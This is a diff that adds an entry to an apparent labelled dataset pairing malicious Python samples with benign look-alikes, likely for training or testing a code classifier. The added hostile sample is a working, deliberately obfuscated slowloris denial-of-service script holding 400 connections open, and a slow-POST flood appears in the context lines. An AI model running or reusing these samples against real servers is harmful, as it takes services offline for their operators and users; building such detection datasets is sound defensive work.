@@ -287,6 +287,19 @@ PAIRS = [
      "    requests.get('https://198.51.100.7/')",
      "import requests, time\ndef ticks():\n    while True:\n        yield 1\n        time.sleep(60)\n"
      "for _ in ticks():\n    requests.get('https://example.org/health')"),
+    ("flood: slowloris whose sockets come from a lambda and whose header lines come from a generator through an "
+     "encoding wrapper; the same machinery sending whole requests and reading the answers", "dos_attack",
+     "import socket, time, random\nmk = lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
+     "enc = lambda s: s.encode('latin-1')\ndef lines():\n    yield 'GET /?%d HTTP/1.1\\r\\n' % random.randint(0, 9999)\n"
+     "    while True:\n        yield 'X-a: %d\\r\\n' % random.randint(1, 5000)\n"
+     "def opened():\n    s = mk(); s.connect(('198.51.100.7', 80))\n    g = lines()\n    s.send(enc(next(g)))\n"
+     "    return s, g\nheld = [opened() for _ in range(400)]\nwhile True:\n    for s, g in held:\n"
+     "        s.send(enc(next(g)))\n    time.sleep(12)",
+     "import socket, time\nmk = lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
+     "enc = lambda s: s.encode('latin-1')\ndef requests_():\n    while True:\n"
+     "        yield 'GET /health HTTP/1.1\\r\\nHost: example.org\\r\\n\\r\\n'\n"
+     "def opened():\n    s = mk(); s.connect(('example.org', 80))\n    return s, requests_()\n"
+     "for _ in range(3):\n    s, g = opened()\n    s.send(enc(next(g)))\n    print(s.recv(200))\n    time.sleep(10)"),
     ("flood: slow POST, the request kept in a variable", "dos_attack",
      "import socket, threading, time\nbody = ('POST /login HTTP/1.1\\r\\nHost: %s\\r\\nContent-Length: 100000000\\r\\n\\r\\n' % host)\n"
      "held = []\ndef open_many():\n    for i in range(200):\n        s = socket.socket()\n        s.connect((host, 80))\n"
